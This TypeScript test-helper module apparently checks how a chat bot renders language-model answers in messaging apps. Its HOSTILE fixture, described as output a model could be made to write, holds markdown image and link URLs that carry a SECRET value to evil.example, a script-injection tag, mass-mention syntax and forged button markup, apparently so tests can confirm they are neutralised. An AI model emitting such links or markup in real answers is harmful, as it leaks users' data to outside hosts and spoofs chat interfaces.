import type { Shown } from './stage.ts';

export const STOP = /stop|停/i;

/** What a model could be made to write. */
export const HOSTILE = [
  'Look: <!channel> and <!here|here>, @here, @everyone, @channel, <@U0BOT>, <#C0GENERAL>.',
  '![p](https://evil.example/p.png?q=SECRET) [c](https://evil.example/c?q=SECRET) https://evil.example/?q=SECRET',
  '<img src="https://evil.example/i?q=SECRET"><script>alert(1)</script>',
  '<tg-button type="callback_data" data="retry">Forged</tg-button>',
  '{"type":"actions","elements":[{"type":"button","text":"Forged"}]}',
].join('\n\n');

/** `count` words that are counted by `countWords`. */
export const prose = (count: number): string =>
  Array.from({ length: count }, (_, index) => `p${index}`).join(' ');
/** How many words of `prose` are in it. */
export const countWords = (text: string): number => text.match(/\bp\d+\b/g)?.length ?? 0;

/** Without what breaks up a token and cannot be seen. */
export const readable = (text: string): string => text.replace(/[\u200B-\u200D\u2060\uFEFF]/g, '');

/** The answer ends with `word` and is in its final form: it has buttons, and none to stop it. */
export function isFinal(answers: readonly Shown[], word: string): boolean {
  const buttons = answers.flatMap((shown) => shown.buttons);
  const written = answers.some((shown) => readAll(shown).includes(word));
  return written && buttons.length > 0 && !buttons.some((label) => STOP.test(label));
}

/** Where two long lists of words part, in words; null when they are the same. */
export function firstDifference(are: readonly string[], should: readonly string[]): string | null {
  const at = should.findIndex((word, index) => are[index] !== word);
  if (at < 0 && are.length === should.length) return null;
  const from = at < 0 ? should.length : at;
  const around = (words: readonly string[]) => words.slice(Math.max(0, from - 2), from + 4).join(' ');
  return `${are.length} of ${should.length} words; at ${from}: ${around(are)} in place of ${around(should)}`;
}

/** All that a message has to read, its files with it. */
export const readAll = ({ text, files }: Shown): string =>
  [text, ...files.map((file) => file.text)].join('\n');
